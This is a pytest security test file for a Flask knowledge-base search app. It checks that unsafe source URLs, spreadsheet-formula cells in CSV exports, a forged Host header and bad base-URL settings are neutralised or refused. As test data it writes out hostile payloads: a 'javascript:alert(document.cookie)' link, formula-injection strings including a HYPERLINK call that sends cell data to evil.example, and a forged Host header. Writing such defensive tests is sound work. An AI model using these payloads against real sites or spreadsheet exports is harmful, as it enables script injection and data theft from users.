"""Links and exports an attacker could shape: source URLs, spreadsheet formulas, the Host header.

The index here is built as one built before import and check refused unsafe
source URLs would be: alesund.md has a ``javascript:`` source URL, and a page of
items that start like spreadsheet formulas is added. Pages must render neither as
a link, the CSV must neutralise every formula, and the CSV's links must never take
their host from the request.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask import Flask, render_template_string
from flask.testing import FlaskClient

from kb.config import SettingError
from kb.corpus import document_path, write_document
from kb.index import build_index
from kb.models import Document, Section, SectionItem
from kb.vocabulary import MAX_ID_LENGTH, MAX_SLUG_LENGTH
from kb.web.app import create_app
from kb.web.state import current_index

PROJECT = Path(__file__).resolve().parents[2]
KB = Path(sys.executable).with_name("kb")
UNSAFE = "javascript:alert(document.cookie)"
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Formelprøve")', "+47 formelprøve",
            "-1 formelprøve minus", "@SUM(A1) formelprøve"]
FORGED_HOST = "evil.example"


@pytest.fixture(scope="module")
def unsafe_corpus(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A corpus copy with an unsafe source URL and formula items, indexed as an old build."""
    corpus = tmp_path_factory.mktemp("unsafe") / "corpus"
    shutil.copytree(PROJECT / "corpus", corpus)
    alesund = corpus / "alesund.md"
    text = alesund.read_text(encoding="utf-8")
    alesund.write_text(re.sub(r"^source_url: .*$", f"source_url: '{UNSAFE}'", text, count=1,
                              flags=re.M), encoding="utf-8")
    doc = Document(slug="formler", title="Formler", doc_type="programme", region="", county="",
                   language="nb", source_url="https://example.org/formler/",
                   sections=[Section("article", "Formler",
                                     [SectionItem(f, style="bullet") for f in FORMULAS])])
    document_path(corpus, "formler").write_text(write_document(doc), encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:  # the reader of before the check existed
        patch.setattr("kb.corpus.fileformat.is_web_url", lambda url: True)
        build_index(corpus, corpus.parent / "index")
    yield corpus


def _app(corpus: Path, **settings: object) -> Flask:
    return create_app({"TESTING": True, "CORPUS_DIR": corpus, "INDEX_DIR": corpus.parent / "index",
                       **settings})


@pytest.fixture(scope="module")
def app(unsafe_corpus: Path) -> Iterator[Flask]:
    app = _app(unsafe_corpus)
    yield app
    with app.app_context():
        current_index().close()


@pytest.fixture()
def client(app: Flask) -> FlaskClient:
    return app.test_client()


def _hrefs(html: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', html)


def test_the_old_index_holds_the_unsafe_url(app: Flask) -> None:
    with app.app_context():
        assert {it.source_url for it in current_index().items() if it.doc == "alesund"} == {UNSAFE}


def test_region_page_renders_no_unsafe_source_link(client: FlaskClient) -> None:
    page = client.get("/dokument/alesund").get_data(as_text=True)
    assert "javascript:" not in " ".join(_hrefs(page)).lower()
    assert "Originalsiden" not in page
    safe = client.get("/dokument/bjugn").get_data(as_text=True)
    assert 'href="https://distriktssenteret.no/artikkel/bjugn/"' in safe and "Originalsiden" in safe


def test_hit_cards_render_no_unsafe_source_link(client: FlaskClient) -> None:
    page = client.get("/?q=tillit&per_page=100").get_data(as_text=True)
    cards = re.findall(r'<article class="card.*?</article>', page, re.S)
    alesund = [c for c in cards if re.search(r"/dokument/alesund[?#]", c)]
    others = [c for c in cards if c not in alesund]
    assert alesund and others
    assert not any("Originalside" in c or "javascript:" in c.lower() for c in alesund)
    assert all("Originalside ↗" in c for c in others)


@pytest.mark.parametrize(("url", "safe"), [
    ("https://distriktssenteret.no/artikkel/bjugn/", True), ("http://example.org", True),
    (UNSAFE, False), ("JAVASCRIPT:alert(1)", False), ("data:text/html,x", False),
    ("//evil.example/", False), ("https://", False), ("", False), (None, False),
])
def test_safe_url_template_test(app: Flask, url: str | None, safe: bool) -> None:
    with app.test_request_context():
        assert render_template_string("{{ url is safe_url }}", url=url) == str(safe)


def _csv_rows(client: FlaskClient, url: str, **headers: str) -> list[dict[str, str]]:
    response = client.get(url, headers=headers)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_csv_neutralises_every_formula(client: FlaskClient) -> None:
    rows = _csv_rows(client, "/api/search.csv?q=formelprøve")
    assert sorted(r["text"] for r in rows) == sorted("'" + f for f in FORMULAS)
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_excel_csv_neutralises_every_formula_with_the_same_guard(client: FlaskClient) -> None:
    text = client.get("/treff.csv?q=formelprøve").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert sorted(r["Tekst"] for r in rows) == sorted("'" + f for f in FORMULAS)
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_excel_csv_links_never_take_the_forged_host_header(client: FlaskClient) -> None:
    body = client.get("/treff.csv?q=tillit", headers={"Host": FORGED_HOST}).get_data(True)
    assert FORGED_HOST not in body and ";/dokument/" in body


def test_csv_links_never_take_the_forged_host_header(client: FlaskClient) -> None:
    rows = _csv_rows(client, "/api/search.csv?q=tillit", Host=FORGED_HOST)
    assert rows and all(r["url"].startswith("/dokument/") for r in rows)
    body = client.get("/api/search.csv?q=tillit", headers={"Host": FORGED_HOST}).get_data(True)
    assert FORGED_HOST not in body
    openapi = client.get("/api/openapi.json", headers={"Host": FORGED_HOST}).get_json()
    assert openapi["servers"] == [{"url": "/"}]


def test_csv_links_start_with_the_configured_base_url(unsafe_corpus: Path,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    configured = _app(unsafe_corpus, BASE_URL="https://kb.example.no/")
    monkeypatch.setenv("KB_BASE_URL", "https://miljo.example.no")
    from_env = _app(unsafe_corpus)
    for app, base in ((configured, "https://kb.example.no"), (from_env, "https://miljo.example.no")):
        client = app.test_client()
        rows = _csv_rows(client, "/api/search.csv?q=tillit", Host=FORGED_HOST)
        assert rows and all(r["url"].startswith(f"{base}/dokument/") for r in rows)
        openapi = client.get("/api/openapi.json", headers={"Host": FORGED_HOST}).get_json()
        assert openapi["servers"] == [{"url": base}]
        with app.app_context():
            current_index().close()


@pytest.mark.parametrize("base", ["javascript:alert(1)", "ftp://example.org", "example.org",
                                  "https://kb.example.no/?x=1"])
def test_bad_base_url_is_refused(unsafe_corpus: Path, base: str) -> None:
    with pytest.raises(SettingError, match="^BASE_URL must be an http"):
        _app(unsafe_corpus, BASE_URL=base)


def _serve(corpus: Path, *args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("KB_")}
    full_env.update(env)
    return subprocess.run([str(KB), "--corpus", str(corpus), "--index", str(corpus.parent / "x"),
                           "serve", "--port", "1", *args], capture_output=True, text=True,
                          env=full_env, timeout=60, check=False)


def test_serve_names_a_bad_base_url_option_or_variable(unsafe_corpus: Path) -> None:
    option = _serve(unsafe_corpus, "--base-url", "javascript:alert(1)", env={})
    assert option.returncode == 2 and "'--base-url'" in option.stderr
    variable = _serve(unsafe_corpus, env={"KB_BASE_URL": "ftp://example.org"})
    assert variable.returncode == 2 and "KB_BASE_URL must be an http" in variable.stderr
    assert not (unsafe_corpus.parent / "x").exists()  # refused before anything was built


def test_over_long_slug_and_id_are_404(client: FlaskClient) -> None:
    assert client.get("/dokument/" + "a" * (MAX_SLUG_LENGTH + 1)).status_code == 404
    assert client.get("/element/" + "a" * (MAX_ID_LENGTH + 1)).status_code == 404
    assert client.get("/api/items/" + "a" * (MAX_ID_LENGTH + 1)).status_code == 404
